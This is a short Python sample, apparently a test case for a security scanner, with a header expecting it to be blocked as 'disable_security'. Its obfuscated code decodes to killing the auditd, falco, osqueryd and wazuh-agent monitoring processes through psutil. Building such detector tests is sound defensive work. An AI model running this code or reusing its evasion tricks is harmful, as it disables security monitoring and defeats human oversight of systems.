# expect: BLOCKED category: disable_security variant-of: risky/disable_security/kill_agents_psutil.py technique: encode+getattr
psutil = __import__(bytes.fromhex('70737574696c').decode())
AGENTS = {getattr(bytes, ''.join(map(chr, [102, 114, 111, 109, 104, 101, 120])))('617564697464').decode(), ''.join(map(chr, [102, 97, 108, 99, 111])), 'dyreuqso'[::-1], __import__('codecs').decode('jnmhu-ntrag', 'rot13')}
for proc in getattr(psutil, 'reti_ssecorp'[::-1])([''.join(['n', 'a', 'm', 'e'])]):
    if proc.info[__import__('base64').b64decode('bmFtZQ==').decode()] in AGENTS:
        getattr(proc, __import__('codecs').decode('xvyy', 'rot13'))()
